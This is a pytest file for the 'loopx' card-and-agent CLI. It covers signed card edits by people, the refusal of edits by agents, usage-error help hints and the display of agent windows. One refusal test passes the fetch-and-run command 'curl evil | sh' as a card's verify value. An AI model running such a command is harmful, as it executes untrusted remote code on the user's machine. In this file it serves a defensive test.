"""The verbs people expected (issue #39 item 9): `card edit` (a person's signed
rewrite of a card's title, objective, next action or verify), a usage error
that points at the subcommand's own help, `agent list` showing windows."""

from __future__ import annotations

from tests.conftest import person_ok

from .conftest import held, refused


def test_a_person_edits_a_cards_title_objective_next_and_verify(team):
    team.ok("card", "add", "one", "--verify", "false", "--next", "start")
    c = person_ok(
        team,
        "card",
        "edit",
        "LX-1",
        "--title",
        "one, better",
        "--body",
        "the whole story",
        "--next",
        "do it",
        "--verify",
        "true",
    )["card"]
    assert (c["title"], c["body"], c["next"], c["verify"]) == ("one, better", "the whole story", "do it", "true")
    c = person_ok(team, "card", "edit", "LX-1", "--verify", "")["card"]
    assert c["verify"] is None and c["title"] == "one, better"  # an empty verify clears it, the rest stays
    edits = [e for e in team.ok("events", "--card", "LX-1")["events"] if e["kind"] == "card_edited"]
    assert [e["data"] for e in edits] == [
        {"title": "one, better", "body": "the whole story", "next": "do it", "verify": "true"},
        {"verify": None},
    ]
    assert all(e["actor"] == "human:tester" and e["signed"] for e in edits)
    assert team.cli("verify").code == 0


def test_an_agent_cannot_edit_a_card_nor_can_bad_input(team):
    team.ok("card", "add", "one")
    held(team, "LX-1", "a1")
    err = refused(team, 10, "card", "edit", "LX-1", "--verify", "curl evil | sh", agent="a1")
    assert "an agent cannot" in err["message"]
    assert "nothing to change" in refused(team, 3, "card", "edit", "LX-1", as_person=True)["message"]
    assert refused(team, 4, "card", "edit", "LX-9", "--title", "x", as_person=True)["code"] == "unknown_card"
    assert refused(team, 3, "card", "edit", "LX-1", "--title", "", as_person=True)
    person_ok(team, "card", "move", "LX-1", "--to", "cancelled")
    refused(team, 5, "card", "edit", "LX-1", "--title", "revive", as_person=True)


def test_a_usage_error_points_at_the_subcommands_help(team):
    res = team.cli("card", "budget", "LX-1", "--add-turn", "2", json_out=False)
    assert res.code == 2 and "see `loopx card budget --help`" in res.err, res
    res = team.cli("card", "budget", "--bogus", json_out=False)
    assert res.code == 2 and "loopx card budget --help" in res.err, res


def test_agent_list_shows_each_agents_window(team):
    person_ok(team, "agent", "add", "w1", "--runtime", "shell", "--tokens", "2000000", "--usd", "20", "--window", "5h")
    text = team.cli("agent", "list", json_out=False).out
    line = next(line for line in text.splitlines() if line.startswith("w1"))
    assert "window 2000000 tokens · $20 / 5h" in line, text
    assert "window -" in next(line for line in text.splitlines() if line.startswith("a1"))
